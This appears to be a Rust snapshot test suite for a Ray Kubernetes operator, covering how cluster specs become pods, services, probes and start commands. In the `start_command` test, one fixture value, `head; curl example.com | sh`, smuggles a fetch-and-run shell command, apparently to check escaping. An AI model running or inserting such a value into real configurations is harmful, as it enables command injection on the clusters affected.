//! What is made of a RayCluster, one feature per snapshot: the cluster stands at the top, what comes of it below.

use ray_operator::api::RayCluster;
use ray_operator::plan::build::{self, Built, Identity, head_external_service, head_service};
use ray_operator::plan::config::PlanConfig;
use serde_json::{Value, json};

fn cluster(text: &str) -> RayCluster {
    let mut cluster: RayCluster = serde_saphyr::from_str(text).unwrap();
    cluster.metadata.namespace = Some("ns".to_owned());
    cluster.metadata.uid = Some("6f1c".to_owned());
    cluster
}

/// Settings whose version does not change with ours.
fn config() -> PlanConfig {
    PlanConfig { version: "ray-operator/test".to_owned(), ..PlanConfig::default() }
}

fn head(cluster: &RayCluster) -> Value {
    head_with(cluster, &config())
}

fn head_with(cluster: &RayCluster, config: &PlanConfig) -> Value {
    value(build::head_pod(cluster, Identity::default(), config))
}

fn worker(cluster: &RayCluster, identity: Identity) -> Value {
    value(build::worker_pod(cluster, &cluster.spec.groups()[0], identity, &config()))
}

fn first_worker(cluster: &RayCluster) -> Value {
    worker(cluster, Identity::default())
}

/// The pod, with the remarks beside it when there are any.
fn value(built: Built) -> Value {
    let mut pod = json!(built.pod);
    // Checked once, in `minimal`; noise everywhere else.
    let remarks: Vec<String> = built.remarks.iter().map(build::Remark::text).collect();
    if !remarks.is_empty() {
        pod["remarks"] = json!(remarks);
    }
    pod
}

fn ray(pod: &Value) -> &Value {
    &pod["spec"]["containers"][0]
}

/// `NAME=value` or `NAME <- where from`, in order.
fn env(container: &Value) -> Vec<String> {
    let line = |e: &Value| {
        let name = e["name"].as_str().unwrap();
        match e["value"].as_str() {
            Some(value) => format!("{name}={value}"),
            None => format!("{name} <- {}", e["valueFrom"]),
        }
    };
    container["env"].as_array().into_iter().flatten().map(line).collect()
}

fn args(pod: &Value) -> &Value {
    &ray(pod)["args"]
}

fn snapshot(name: &str, given: &str, made: &Value) {
    let given: Value = serde_saphyr::from_str(given).unwrap();
    insta::with_settings!({ info => &given, omit_expression => true, prepend_module_to_snapshot => false, snapshot_path => "golden" }, {
        insta::assert_yaml_snapshot!(name, made);
    });
}

const MINIMAL: &str = "
metadata: {name: mini}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, image: 'rayproject/ray:2.52.0'}]}}
  workerGroupSpecs:
  - groupName: w
    template: {spec: {containers: [{name: ray, image: 'rayproject/ray:2.52.0'}]}}
";

#[test]
fn minimal() {
    let c = cluster(MINIMAL);
    snapshot("minimal_head", MINIMAL, &head(&c));
    snapshot("minimal_worker", MINIMAL, &first_worker(&c));
    snapshot("minimal_service", MINIMAL, &json!(head_service(&c, &config())));
    assert_eq!(head_external_service(&c, &config()), None);
}

#[test]
fn a_pod_says_which_one_it_is() {
    let given = "
metadata: {name: slices}
spec:
  headGroupSpec: {template: {spec: {containers: [{name: ray}]}}}
  workerGroupSpecs:
  - groupName: tpu
    numOfHosts: 2
    template:
      metadata: {annotations: {ray.io/incarnation: '77', ray.io/quick-failures: '77'}}
      spec: {containers: [{name: ray}]}
";
    let c = cluster(given);
    let identity = Identity { slot: 3, host: 1, incarnation: 2, quick_failures: 1 };
    snapshot(
        "identity",
        given,
        &json!({"third replica, second host": worker(&c, identity)["metadata"], "first": first_worker(&c)["metadata"]}),
    );
}

#[test]
fn start_command() {
    let given = r#"
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams:
      port: '6380'
      dashboard-host: '127.0.0.1'
      block: 'false'
      log-color: 'false'
      include-dashboard: 'true'
      ray-debugger-external: 'True'
      disable-usage-stats: 'false'
      redis-password: $REDIS_PASSWORD
      resources: '"{\"Disk\": 1}"'
      system-config: |
        '{"a": 1}'
      temp-dir: /tmp/my dir
      node-name: head; curl example.com | sh
    template: {spec: {containers: [{name: ray}]}}
  workerGroupSpecs:
  - groupName: w
    rayStartParams: {address: 'elsewhere:1', metrics-export-port: '9090', dashboard-agent-listen-port: '52366'}
    template: {spec: {containers: [{name: ray}]}}
"#;
    let c = cluster(given);
    let w = first_worker(&c);
    snapshot(
        "start_command",
        given,
        &json!({"head": args(&head(&c)), "worker": args(&w), "worker ports": ray(&w)["ports"]}),
    );
}

#[test]
fn amounts_come_from_the_container() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams: {num-cpus: '0'}
    template: {spec: {containers: [{name: ray, resources: {limits: {cpu: 1500m, memory: 1Gi}}}]}}
  workerGroupSpecs:
  - groupName: requests-only
    template: {spec: {containers: [{name: ray, resources: {requests: {cpu: 1500m, memory: 1Gi, nvidia.com/gpu: 1}}}]}}
";
    let c = cluster(given);
    let w = first_worker(&c);
    let made = json!({
        "head": args(&head(&c)), "worker": args(&w), "worker volumes": w["spec"]["volumes"], "worker mounts": ray(&w)["volumeMounts"]
    });
    snapshot("amounts", given, &made);
}

#[test]
fn accelerators() {
    let mut made = serde_json::Map::new();
    for (case, params, limits) in [
        ("GPU", "{}", "{nvidia.com/gpu: 2, memory: 1Gi}"),
        ("slice of a GPU", "{}", "{nvidia.com/mig-1g.5gb: 3}"),
        ("number of GPUs given", "{num-gpus: '0'}", "{nvidia.com/gpu: 2}"),
        ("TPU", "{}", "{google.com/tpu: 4}"),
        ("Neuron", "{}", "{aws.amazon.com/neuroncore: 8}"),
        ("Neuron before TPU, and a GPU", "{}", "{aws.amazon.com/neuroncore: 8, google.com/tpu: 4, amd.com/gpu: 3}"),
        ("TPU beside own resources", r#"{resources: '{"Disk": 0.5}'}"#, "{google.com/tpu: 4}"),
        (
            "TPU beside escaped resources",
            r#"{resources: '"{\"Disk\": 0.5}"'}"#,
            "{google.com/tpu: 4, nvidia.com/gpu: 1}",
        ),
        ("TPU given", r#"{resources: '"{\"TPU\": 1}"'}"#, "{google.com/tpu: 4}"),
        ("unreadable resources", "{resources: $RESOURCES}", "{google.com/tpu: 4, nvidia.com/gpu: 1}"),
    ] {
        let c = cluster(&format!(
            "
metadata: {{name: c}}
spec:
  headGroupSpec:
    rayStartParams: {params}
    template: {{spec: {{containers: [{{name: ray, resources: {{limits: {limits}}}}}]}}}}
"
        ));
        let built = build::head_pod(&c, Identity::default(), &config());
        let pod = value(built);
        let flags: Vec<&str> = args(&pod)[0]
            .as_str()
            .unwrap()
            .split("  ")
            .filter(|f| f.contains("gpus") || f.contains("resources"))
            .collect();
        made.insert(
            case.to_owned(),
            json!({"params": params, "limits": limits, "flags": flags, "remarks": pod["remarks"]}),
        );
    }
    snapshot("accelerators", "{}", &Value::Object(made));
}

#[test]
fn resources_and_labels_of_a_group() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    resources: {CPU: 500m, memory: 2Gi, nvidia.com/gpu: '1', Disk: 500m, it's: '1', broken: many}
    labels: {zone: a, ray.io/group: mine, app.kubernetes.io/name: shop}
    rayStartParams: {num-cpus: '9'}
    template:
      metadata: {labels: {zone: b, team: t}}
      spec: {containers: [{name: ray, resources: {limits: {cpu: 4, memory: 8Gi}}}]}
";
    let c = cluster(given);
    let pod = head(&c);
    let service = json!(head_service(&c, &config()));
    let made = json!({
        "args": args(&pod), "labels": pod["metadata"]["labels"],
        "service": {"labels": service["metadata"]["labels"], "selector": service["spec"]["selector"]}
    });
    snapshot("group_resources_and_labels", given, &made);
}

#[test]
fn the_service_finds_a_head_whose_labels_were_changed() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    template:
      metadata: {labels: {ray.io/identifier: mine, app.kubernetes.io/created-by: me, ray.io/cluster: other}}
      spec: {containers: [{name: ray}]}
";
    let c = cluster(given);
    let service = json!(head_service(&c, &config()));
    let selector = service["spec"]["selector"].as_object().unwrap();
    let labels = head(&c)["metadata"]["labels"].clone();
    assert!(selector.iter().all(|(key, value)| labels[key] == *value), "{selector:?} of {labels}");
    snapshot("changed_labels", given, &json!({"labels": service["metadata"]["labels"], "selector": selector}));
}

#[test]
fn probes_by_version() {
    let mut made = serde_json::Map::new();
    for version in ["2.52.0", "2.53.0rc1", "nightly"] {
        for creator in ["RayCluster", "RayService"] {
            let c = cluster(&format!(
                "
metadata: {{name: c, labels: {{ray.io/originated-from-crd: {creator}}}}}
spec:
  rayVersion: {version}
  headGroupSpec: {{rayStartParams: {{dashboard-port: '8266'}}, template: {{spec: {{containers: [{{name: ray}}]}}}}}}
  workerGroupSpecs:
  - groupName: w
    rayStartParams: {{dashboard-agent-listen-port: '52366'}}
    template: {{spec: {{containers: [{{name: ray, ports: [{{name: serve, containerPort: 8001}}]}}]}}}}
"
            ));
            let probes = |pod: &Value| {
                let line = |p: &Value| {
                    let ask =
                        p["exec"]["command"][2].as_str().map_or_else(|| format!("GET {}", p["httpGet"]), str::to_owned);
                    let [delay, period, failures, timeout] =
                        ["initialDelaySeconds", "periodSeconds", "failureThreshold", "timeoutSeconds"].map(|k| &p[k]);
                    format!("{ask} (after {delay}s, every {period}s, {failures} failures, {timeout}s each)")
                };
                json!({"live": line(&ray(pod)["livenessProbe"]), "ready": line(&ray(pod)["readinessProbe"])})
            };
            made.insert(
                format!("{version} {creator}"),
                json!({"head": probes(&head(&c)), "worker": probes(&first_worker(&c))}),
            );
        }
    }
    snapshot("probes", "{}", &Value::Object(made));
}

#[test]
fn probes_of_the_user_stay() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, readinessProbe: {tcpSocket: {port: 1}}}]}}
";
    let c = cluster(given);
    let probed = head(&c);
    assert_eq!(ray(&probed)["readinessProbe"], json!({"tcpSocket": {"port": 1}}));
    assert!(ray(&probed)["livenessProbe"]["exec"].is_object());
    let off = head_with(&c, &PlanConfig { inject_probes: false, ..config() });
    assert!(ray(&off)["livenessProbe"].is_null());
}

#[test]
fn a_command_of_the_user_runs_first() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, command: [/bin/bash, -lc, --], args: [echo hi]}]}}
";
    let c = cluster(given);
    let pod = head(&c);
    let login = head_with(&c, &PlanConfig { login_shell: true, ..config() });
    let made =
        json!({"command": ray(&pod)["command"], "args": args(&pod), "under a login shell": ray(&login)["command"]});
    snapshot("user_command", given, &made);
}

#[test]
fn overwrite_container_cmd() {
    let given = "
metadata: {name: c, annotations: {ray.io/overwrite-container-cmd: 'True'}}
spec:
  headGroupSpec:
    template: {spec: {containers: [{name: ray, command: [/bin/bash, -c], args: [eval $KUBERAY_GEN_RAY_START_CMD]}]}}
";
    let pod = head(&cluster(given));
    let made = json!({
        "annotations": pod["metadata"]["annotations"], "command": ray(&pod)["command"], "args": args(&pod), "env": env(ray(&pod))
    });
    snapshot("overwrite_container_cmd", given, &made);
}

#[test]
fn ray_started_by_the_users_own_script() {
    let given = r#"
metadata: {name: own}
spec:
  headGroupSpec:
    template:
      spec:
        containers:
        - name: ray-head
          image: rayproject/ray:2.52.0
          command: ["/bin/bash", "-c"]
          args:
          - |
            ray start --head --port=6379 --dashboard-host=0.0.0.0 --dashboard-port=8265 --num-cpus=0 --disable-usage-stats --block &
            python3 -m http.server 8080 &
            wait
          ports: [{containerPort: 6379}, {containerPort: 8265}, {containerPort: 8080}]
  workerGroupSpecs:
  - groupName: cpu-workers
    replicas: 2
    minReplicas: 1
    maxReplicas: 4
    template:
      spec:
        containers:
        - name: ray-worker
          image: rayproject/ray:2.52.0
          command: ["/bin/bash", "-c"]
          args: ["ray start --address=$RAY_HEAD_ADDRESS --num-cpus=1 --num-gpus=0 & wait"]
"#;
    let c = cluster(given);
    snapshot("own_script_head", given, &head(&c));
    snapshot("own_script_worker", given, &first_worker(&c));
    snapshot("own_script_service", given, &json!(head_service(&c, &config()).spec));
}

#[test]
fn addresses_follow_port_and_service_name() {
    let by_param = "
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams: {port: '6380', dashboard-port: '8266', ray-client-server-port: '10002'}
    headService: {metadata: {name: my-head}}
    template: {spec: {containers: [{name: ray}]}}
  workerGroupSpecs:
  - groupName: w
    template:
      spec:
        initContainers: [{name: prepare}]
        containers: [{name: ray}, {name: logs}, {name: own, env: [{name: RAY_ADDRESS, value: auto}]}]
";
    let by_script = by_param.replace("{port: '6380', dashboard-port: '8266', ray-client-server-port: '10002'}", "{}").replace(
        "template: {spec: {containers: [{name: ray}]}}",
        "template: {spec: {containers: [{name: ray, command: [bash, -c, 'ray start --head --port 6381 --dashboard-port=8267 --block']}]}}",
    );
    let mut made = serde_json::Map::new();
    for (case, given) in [("by rayStartParams", by_param), ("by the head's own script", &by_script)] {
        let c = cluster(given);
        let pod = first_worker(&c);
        let mut found = serde_json::Map::new();
        for list in ["initContainers", "containers"] {
            for container in pod["spec"][list].as_array().unwrap() {
                let shown = ["RAY_ADDRESS", "RAY_HEAD_ADDRESS", "FQ_RAY_IP", "RAY_IP", "RAY_PORT"];
                let lines =
                    env(container).into_iter().filter(|e| shown.iter().any(|s| e.starts_with(&format!("{s}="))));
                found.insert(container["name"].as_str().unwrap().to_owned(), lines.collect());
            }
        }
        let service = json!(head_service(&c, &config()));
        let h = head(&c);
        found.insert(
            "head".to_owned(),
            env(ray(&h)).into_iter().filter(|e| e.starts_with("RAY_ADDRESS") || e.starts_with("RAY_PORT")).collect(),
        );
        found.insert("head is live".to_owned(), ray(&h)["livenessProbe"]["exec"]["command"][2].clone());
        found.insert(
            "service".to_owned(),
            json!({"name": service["metadata"]["name"], "ports": service["spec"]["ports"]}),
        );
        made.insert(case.to_owned(), Value::Object(found));
    }
    snapshot("addresses", by_param, &Value::Object(made));
}

/// Internal and external Service of a head group's fields.
fn services(name: &str, head_group: &str, config: &PlanConfig) {
    let given = format!(
        "
metadata: {{name: c}}
spec:
  headServiceAnnotations: {{who: cluster}}
  headGroupSpec:
    template: {{spec: {{containers: [{{name: ray, ports: [{{name: dashboard, containerPort: 8265}}, {{name: gcs-server, containerPort: 6379}}]}}]}}}}
{head_group}"
    );
    let c = cluster(&given);
    let made = json!({"inside": head_service(&c, config), "outside": head_external_service(&c, config)});
    snapshot(name, &given, &made);
}

#[test]
fn services_for_people_outside() {
    services("node_port", "    serviceType: NodePort\n", &config());
    let custom = "
    headService:
      metadata: {name: my-head, labels: {team: t, ray.io/node-type: x}, annotations: {who: service, also: service}}
      spec:
        type: LoadBalancer
        loadBalancerSourceRanges: [10.0.0.0/8]
        externalTrafficPolicy: Local
        ports: [{name: dashboard, port: 8265, nodePort: 30265}]
";
    services("load_balancer", custom, &config());
}

#[test]
fn head_service_of_the_user() {
    let plain = "
    headService:
      metadata: {name: my-head, labels: {team: t}, annotations: {who: service, also: service}}
      spec:
        ports: [{port: 9999}, {name: dashboard, port: 8265, appProtocol: http}, {name: gcs-server, port: 6379}, {port: 53, protocol: UDP}, {port: 53}]
";
    services("head_service", plain, &config());
    let redirected = "
    headService: {spec: {ports: [{name: http, port: 80, targetPort: 8265}]}}
";
    services("head_service_redirected", redirected, &config());
    services(
        "head_service_with_address",
        "    serviceType: ClusterIP\n",
        &PlanConfig { head_cluster_ip_service: true, ..config() },
    );
}

#[test]
fn a_service_with_an_address_always_has_the_port_of_the_control_store() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    rayStartParams: {port: '6380'}
    template: {spec: {containers: [{name: ray, ports: [{name: dashboard, containerPort: 8265}]}]}}
";
    let c = cluster(given);
    let ports = |config: &PlanConfig| -> Vec<i32> {
        head_service(&c, config).spec.unwrap().ports.unwrap().iter().map(|p| p.port).collect()
    };
    assert_eq!(ports(&config()), [8265, 8080]);
    assert_eq!(ports(&PlanConfig { head_cluster_ip_service: true, ..config() }), [8265, 6380, 8080]);
}

#[test]
fn the_hash_of_a_service_changes_with_the_wish_only() {
    let hash = |text: &str| {
        head_service(&cluster(text), &config()).metadata.annotations.unwrap()["ray.io/applied-hash"].clone()
    };
    assert_eq!(hash(MINIMAL), hash(MINIMAL));
    assert_ne!(
        hash(MINIMAL),
        hash(&MINIMAL.replace("headGroupSpec:", "headGroupSpec:\n    rayStartParams: {port: '1'}"))
    );
    assert_eq!(hash(MINIMAL), hash(&MINIMAL.replace("groupName: w", "groupName: w\n    replicas: 3")));
}

#[test]
fn long_and_upper_case_names() {
    let name = "a23456789-b23456789-c23456789-d23456789-e23456789-f23";
    assert_eq!(name.len(), 53);
    let given = format!(
        "
metadata: {{name: {name}}}
spec:
  headGroupSpec: {{serviceType: NodePort, template: {{metadata: {{name: mine, namespace: other}}, spec: {{containers: [{{name: ray}}]}}}}}}
  workerGroupSpecs:
  - groupName: Gpu-{name}
    numOfHosts: 2
    template: {{metadata: {{name: mine, generateName: mine-}}, spec: {{containers: [{{name: ray}}]}}}}
"
    );
    let c = cluster(&given);
    let (h, w) = (head(&c), first_worker(&c));
    let fixed = head_with(&c, &PlanConfig { deterministic_head_pod_name: true, ..config() });
    let mut short = c.clone();
    short.metadata.name = Some("c".to_owned());
    short.spec.worker_group_specs.as_mut().unwrap()[0].group_name = "Gpu".to_owned();
    let made = json!({
        "head": h["metadata"], "worker": w["metadata"], "fixed head": fixed["metadata"]["name"],
        "inside": head_service(&c, &config()).metadata.name, "outside": head_external_service(&c, &config()).unwrap().metadata.name,
        "upper case": first_worker(&short)["metadata"]["name"]
    });
    for name in ["inside", "outside", "fixed head"] {
        assert!(made[name].as_str().unwrap().len() <= 63, "{name}");
    }
    for value in
        w["metadata"]["labels"].as_object().unwrap().iter().filter(|(k, _)| *k != "ray.io/group").map(|(_, v)| v)
    {
        assert!(value.as_str().unwrap().len() <= 63, "{value}");
    }
    snapshot("names", &given, &made);
}

#[test]
fn settings_of_the_operator() {
    let given = "
metadata: {name: c}
spec:
  headGroupSpec:
    template:
      metadata: {annotations: {a: template}, labels: {l: template}}
      spec: {containers: [{name: ray, env: [{name: MINE, value: user}]}, {name: own}]}
  workerGroupSpecs:
  - groupName: w
    template: {spec: {containers: [{name: ray}]}}
";
    let container = |name: &str| serde_json::from_value(json!({"name": name})).unwrap();
    let var = |name: &str| serde_json::from_value(json!({"name": name, "value": "default"})).unwrap();
    let default = |keys: &[&str]| keys.iter().map(|k| ((*k).to_owned(), "default".to_owned())).collect();
    let config = PlanConfig {
        head_sidecars: vec![container("head-side")],
        worker_sidecars: vec![container("worker-side")],
        default_container_envs: vec![var("MINE"), var("YOURS")],
        default_pod_annotations: default(&["a", "b"]),
        default_pod_labels: default(&["l", "m", "ray.io/cluster"]),
        cluster_domain: "example.org".to_owned(),
        inject_init_container: false,
        ..config()
    };
    let c = cluster(given);
    let h = head_with(&c, &config);
    let w = value(build::worker_pod(&c, &c.spec.groups()[0], Identity::default(), &config));
    let names = |pod: &Value| -> Vec<Value> {
        pod["spec"]["containers"].as_array().unwrap().iter().map(|c| c["name"].clone()).collect()
    };
    let made = json!({
        "head": {"metadata": h["metadata"], "containers": names(&h), "env": env(ray(&h))},
        "worker": {"containers": names(&w), "sidecar": env(&w["spec"]["containers"][1]), "init": w["spec"]["initContainers"]}
    });
    snapshot("settings", given, &made);
}

#[test]
fn variables_of_the_user() {
    let given = "
metadata: {name: c, labels: {ray.io/originated-from-crd: RayService}}
spec:
  headGroupSpec: {template: {spec: {containers: [{name: ray}]}}}
  workerGroupSpecs:
  - groupName: w
    template:
      spec:
        containers:
        - name: ray
          env:
          - {name: FQ_RAY_IP, value: loses}
          - {name: BUILT_ON_IT, value: $(FQ_RAY_IP)/x}
          - {name: RAY_CLUSTER_NAME, value: loses}
          - {name: RAY_ADDRESS, value: wins}
          - {name: RAY_PORT, value: wins}
          - {name: RAY_SERVE_KV_TIMEOUT_S, value: wins}
          volumeMounts: [{name: data, mountPath: /data}]
        initContainers: [{name: mine, env: [{name: RAY_IP, value: loses}]}]
";
    let pod = first_worker(&cluster(given));
    let inits: Vec<Value> = pod["spec"]["initContainers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| json!({"name": c["name"], "env": env(c), "volumeMounts": c["volumeMounts"]}))
        .collect();
    let made =
        json!({"ray": env(ray(&pod)), "init containers": inits, "serve": pod["metadata"]["labels"]["ray.io/serve"]});
    snapshot("variables_of_the_user", given, &made);
}

#[test]
fn shared_memory_is_left_to_the_user() {
    for (container, volumes, has_volume, has_mount) in [
        ("{name: ray}", "[]", true, true),
        ("{name: ray, volumeMounts: [{name: x, mountPath: /dev/shm/}]}", "[]", false, false),
        ("{name: ray, command: [bash, -c, ray start --plasma-directory=/p --block]}", "[]", false, false),
        ("{name: ray}", "[{name: shared-mem, emptyDir: {}}]", true, true),
    ] {
        let c = cluster(&format!(
            "
metadata: {{name: c}}
spec: {{headGroupSpec: {{template: {{spec: {{containers: [{container}], volumes: {volumes}}}}}}}}}
"
        ));
        let pod = head(&c);
        let volumes = pod["spec"]["volumes"].as_array().cloned().unwrap_or_default();
        assert_eq!(
            volumes.iter().filter(|v| v["name"] == "shared-mem").count(),
            usize::from(has_volume),
            "{container}"
        );
        let mounts = ray(&pod)["volumeMounts"].as_array().cloned().unwrap_or_default();
        assert_eq!(mounts.iter().any(|m| m["name"] == "shared-mem"), has_mount, "{container}");
    }
}

#[test]
fn autoscaler_versions() {
    let mut made = serde_json::Map::new();
    for version in ["{}", "{version: v1}", "{version: v2}"] {
        let c = cluster(&format!(
            "
metadata: {{name: c}}
spec:
  enableInTreeAutoscaling: true
  autoscalerOptions: {version}
  headGroupSpec: {{template: {{spec: {{containers: [{{name: ray}}]}}}}}}
  workerGroupSpecs: [{{groupName: w, template: {{spec: {{containers: [{{name: ray}}]}}}}}}]
"
        ));
        let (h, w) = (head(&c), first_worker(&c));
        let variable = env(ray(&h)).into_iter().find(|e| e.starts_with("RAY_enable"));
        let made_of = json!({
            "variable": variable, "head restarts": h["spec"]["restartPolicy"], "workers restart": w["spec"]["restartPolicy"],
            "head": args(&h)
        });
        made.insert(version.to_owned(), made_of);
    }
    snapshot("autoscaler_versions", "{}", &Value::Object(made));
}
